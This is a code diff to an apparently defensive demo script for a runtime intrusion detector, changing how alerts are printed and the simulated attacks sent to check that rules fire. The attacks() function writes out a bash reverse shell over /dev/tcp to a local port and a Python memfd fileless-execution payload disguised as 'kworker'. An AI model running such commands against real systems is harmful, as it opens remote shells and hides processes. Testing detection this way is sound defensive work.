@@ -28,6 +28,7 @@ BUNDLE = BUILD / 'bundle/opt/undercoat'
 PLANTED = pathlib.Path('/bin/hello')
 DROPPED = pathlib.Path('/dev/shm/undercoat-demo-dropped')
 PTRACE_ALL = BUILD / 'bench/ptrace_all'
+FACTS = {'file': 'fd.name', 'command': 'proc.cmdline', 'exe': 'proc.exepath', 'parent': 'proc.pname', 'user': 'user.name'}
 COLOURS = {'Emergency': 31, 'Alert': 31, 'Critical': 31, 'Error': 31, 'Warning': 33, 'Notice': 36}
 
 
@@ -52,7 +53,9 @@ class Screen:
         a = json.loads(line)
         priority = a.get('priority', '')
         print(f'    {self.paint(COLOURS.get(priority, 37), "● " + priority.upper().ljust(9))} {self.paint(1, a["rule"])}')
-        print(self.paint(2, '      ' + shorten(a.get('output', ''))), flush=True)
+        fields = a.get('output_fields', {})
+        facts = [f'{word}={fields[name]}' for word, name in FACTS.items() if fields.get(name) not in (None, '', '<NA>')]
+        print(self.paint(2, '      ' + shorten('  '.join(facts) or a.get('output', ''))), flush=True)
 
 
 def shorten(text):
@@ -152,7 +155,7 @@ class Catcher:
 
 def attacks(catcher):
     """What is sent: title, method, path, form, and the rules that must speak."""
-    shell = f"bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{catcher.port} 0>&1'"
+    shell = f"bash -c 'exec bash --norc -i >& /dev/tcp/127.0.0.1/{catcher.port} 0>&1'"
     memfd = ("python3 -c \"import os; f=os.memfd_create('kworker'); os.write(f, open('/bin/true','rb').read()); "
              "os.execve(f, ['kworker'], {})\"")
     return [
